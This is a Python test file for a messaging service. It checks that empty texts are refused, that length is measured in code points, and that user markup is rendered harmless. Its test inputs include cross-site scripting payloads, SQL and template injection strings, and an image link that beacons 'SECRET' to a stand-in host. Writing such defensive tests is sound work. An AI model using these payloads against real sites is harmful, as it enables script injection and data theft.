"""Texts of every sort: refused when there is nothing to see, kept as typed, harmless when shown."""

from uuid import uuid4

import pytest

from accounts.models import User
from messaging.models import Conversation

from .conftest import Call, Caller, refused, rows


@pytest.fixture
def caller(call: Call, alice: User) -> Caller:
    return call(alice)


EMPTY = ["", " ", "\n\n\t", "\u200b\u200b", "\u0301", "\u2060", "\U000e0041\U000e0042", "\x01\x02", "\ufffe"]


@pytest.mark.parametrize("text", EMPTY, ids=ascii)
def test_a_text_that_shows_nothing_is_refused(
    caller: Caller, direct: Conversation, bob: User, text: str
) -> None:
    before = rows()
    refused(caller.say(direct.id, text), 422)
    wish = {"kind": "group", "title": text, "members": [str(bob.id)], "client_id": str(uuid4())}
    refused(caller.post("/conversations", wish), 422)
    wish = {"kind": "mail", "subject": "s", "to": [str(bob.id)], "body": text, "client_id": str(uuid4())}
    refused(caller.post("/conversations", wish), 422)
    assert rows() == before


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("a" * 8000, 201), ("a" * 8001, 422), ("🙂" * 4000, 201), ("🙂" * 8000, 201), ("👨‍👩‍👧‍👦" * 1142, 201),
        ("👨‍👩‍👧‍👦" * 1143, 422), ("\n" * 4000 + "a" * 3999, 201), ("a\n" * 4000, 201), ("字" * 8001, 422),
    ],
)  # fmt: skip
def test_a_text_is_measured_in_code_points(
    caller: Caller, direct: Conversation, text: str, status: int
) -> None:
    assert caller.say(direct.id, text).status_code == status


SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</ScRiPt>", "<<script>script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<details open ontoggle=alert(1)>", "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:x)", "![a](https://evil.test/p.png?d=SECRET)",
    "```html onload=alert(1)\nx\n```", "<a id=getElementById>", "[a](//evil.test)", "[a](&#106;avascript:alert(1))",
    '<a href="x" onclick="alert(1)">', "<style>*{display:none}</style>", "<iframe src=//evil.test></iframe>",
]  # fmt: skip


@pytest.mark.parametrize("text", SCRIPTS)
def test_markup_of_others_is_text(caller: Caller, direct: Conversation, text: str) -> None:
    shown = caller.say(direct.id, text).json()
    assert shown["body"] == text
    html = shown["html_body"].lower()
    for danger in (
        "<script",
        "<img",
        "<svg",
        "<iframe",
        "<style",
        "<details",
        "javascript:",
        "vbscript:",
        'href="//',
    ):
        assert f'="{danger}' not in html if danger.endswith(":") else danger not in html
    assert not any(f" {name}=" in html.replace("&", "") for name in ("id", "name")) or "&lt;" in html


NAUGHTY = ["{{7*7}}", "{% load %}", "%(x)s", "{0.__class__}", "${7*7}", "Robert'); DROP TABLE x;--", "ﷺ", "a\u202eb",
           "مرحبا", "上海", "Ṱ̺̺̕o͞ ̷i̲̬", "👩🏽‍🚀", "&lt;b&gt;", "\\", "a" * 7000]  # fmt: skip


@pytest.mark.parametrize("text", NAUGHTY, ids=lambda text: ascii(text)[:30])
def test_odd_texts_come_back_as_they_were_typed(caller: Caller, direct: Conversation, text: str) -> None:
    answer = caller.say(direct.id, text)
    assert answer.status_code == 201
    assert caller.get(f"/messages/{answer.json()['id']}").json()["body"] == text
